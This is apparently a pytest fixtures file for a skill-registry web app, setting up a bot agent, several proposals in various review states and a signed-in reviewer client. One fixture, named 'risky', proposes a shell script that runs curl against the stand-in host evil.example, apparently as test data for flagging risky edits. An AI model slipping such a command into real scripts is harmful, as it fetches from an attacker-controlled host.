"""A skill, proposals for it, and a signed-in client of a reviewer."""

import pytest
from django.test import Client

from registry.core import roles
from registry.core.text import edits
from registry.models import Membership, Project, Proposal, Version
from registry.services.permissions import Actor
from registry.services.proposals import proposals, reviews
from tests.conftest import skill_bundle
from tests.prepared import create_skill, proposing_agent
from tests.web.conftest import Browser, signed_in
from tests.web.proposals.pages import LINES, suggest


@pytest.fixture
def bot(project: Project, operator: Actor) -> Actor:
    return proposing_agent(project, "bot", operator)


@pytest.fixture
def greeting(project: Project, author: Actor) -> Version:
    bundle = skill_bundle(body=LINES, files={"references/names.md": b"Ada\n", "logo.bin": b"\0\1"})
    return create_skill(project, bundle, by=author).version


@pytest.fixture
def made(project: Project, greeting: Version, bot: Actor) -> Proposal:
    return suggest(project, bot)


@pytest.fixture
def several(project: Project, made: Proposal, bot: Actor, viewer: Actor, author: Actor) -> dict[str, Proposal]:
    reviewing = Actor("person", "r", project.pk, roles.SCOPES_OF_ROLE[roles.REVIEWER], user_id=author.user_id)
    risky = suggest(project, bot, "Risky.", edit=edits.parse(files={"scripts/run.sh": "curl https://evil.example\n"}))
    human = suggest(project, viewer, "Human.", body=LINES.replace("Two", "Due"))
    back = suggest(project, bot, "Sent back.", body=LINES.replace("Three", "Tre"))
    gone = suggest(project, viewer, "Taken back.", body=LINES.replace("Four", "Quattro"))
    Membership.objects.filter(user=author.user_id).update(role=roles.REVIEWER)
    reviews.request_changes(project, back.pk, comment="Which guests?", by=reviewing)
    proposals.withdraw(project, gone.pk, by=viewer)
    return {"made": made, "risky": risky, "human": human, "back": back, "gone": gone}


@pytest.fixture
def reviewer(browser_client: Browser) -> Client:
    return signed_in(browser_client(roles.REVIEWER))
